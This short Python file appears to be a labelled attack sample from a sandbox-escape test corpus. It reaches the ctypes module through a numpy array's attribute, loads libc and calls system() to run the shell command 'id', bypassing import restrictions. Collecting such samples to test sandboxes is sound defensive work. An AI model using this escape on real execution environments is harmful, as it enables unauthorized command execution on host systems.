# corpus: attack class=native form=targeted
# An array's .ctypes attribute holds the ctypes module.
import numpy as np


def main():
    ctypes_module = np.zeros(1).ctypes._ctypes
    return {"status": ctypes_module.CDLL("libc.so.6").system(b"id")}
